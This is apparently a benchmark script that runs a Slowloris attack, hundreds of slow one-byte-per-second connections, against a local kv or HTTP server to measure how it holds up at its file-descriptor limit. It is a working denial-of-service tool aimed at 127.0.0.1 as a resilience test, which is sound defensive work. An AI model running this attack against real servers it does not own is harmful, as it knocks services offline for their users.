#!/usr/bin/env python3
"""Slowloris at the fd limit, against a running server.

usage: slowloris.py PORT SERVER_PID pong|sws|kv SECONDS ATTACKERS

ATTACKERS connections each trickle one byte a second and reconnect at once
when cut off; after 3 s, a fresh client every 100 ms sends a whole request
and must be answered (5 s at most): PING for kv, GET /hello.txt for the
HTTP servers (weft-sws's document root needs that file). An answer is
either the reply (served) or the server's refusal (503, or kv's -ERR max
number of clients reached); a close without either, or no answer, is a
failure. Prints how many fresh clients were served and refused, their
latency and the failures, the attackers' connections and cut-offs, and the server's open
fds before, under and 5 s after the attack. Run the server under a low fd
limit, e.g.

  prlimit --nofile=256:256 weft-kv 7801 --timeout 3 &
  bench/slowloris.py 7801 $! kv 20 400
"""
import socket, sys, time, os, select, threading
port=int(sys.argv[1]); pid=int(sys.argv[2]); kind=sys.argv[3]; dur=float(sys.argv[4]); N=int(sys.argv[5])
req = b"PING\r\n" if kind=='kv' else b"GET /hello.txt HTTP/1.1\r\nHost: x\r\n\r\n"
trickle = b"*" if kind=='kv' else b"G"
def fds(): return len(os.listdir('/proc/%d/fd'%pid))
def once():
    c=socket.create_connection(('127.0.0.1',port),timeout=5); c.sendall(req); c.recv(100); c.close()
once(); time.sleep(0.2)
fd0=fds()
stop=time.time()+dur
cut=[0]; conns=[0]
def attacker():
    s=None
    while time.time()<stop:
        if s is None:
            try:
                s=socket.socket(); s.settimeout(2); s.connect(('127.0.0.1',port)); conns[0]+=1
            except Exception: s=None; time.sleep(0.2); continue
        try:
            s.send(trickle)
            r,_,_=select.select([s],[],[],1.0)
            if r:
                d=s.recv(100)
                if not d: raise OSError
        except Exception:
            cut[0]+=1; s.close(); s=None
    if s: s.close()
ts=[threading.Thread(target=attacker,daemon=True) for _ in range(N)]
for t in ts: t.start()
time.sleep(3)   # let the attackers fill the fds
lat=[]; fail=0; refused=0
while time.time()<stop:
    t0=time.time()
    try:
        c=socket.create_connection(('127.0.0.1',port),timeout=5); c.settimeout(5)
        c.sendall(req); d=c.recv(100)
        if not d: raise OSError('closed')
        if d.startswith(b"-ERR max number of clients") or d.startswith(b"HTTP/1.1 503"): refused+=1
        lat.append(time.time()-t0); c.close()
    except Exception as e:
        fail+=1
    time.sleep(0.1)
peak=fds()
for t in ts: t.join()
time.sleep(5)
lat.sort()
q=lambda p: lat[min(len(lat)-1,int(p*len(lat)))]*1000 if lat else float('nan')
print("%s: fresh clients %d answered (%d served, %d refused), %d failed; latency ms p50 %.1f p99 %.1f max %.1f; attacker connections %d, cut off %d; server fds before %d, under attack %d, 5 s after %d"%(kind,len(lat),len(lat)-refused,refused,fail,q(.5),q(.99),lat[-1]*1000 if lat else 0,conns[0],cut[0],fd0,peak,fds()))
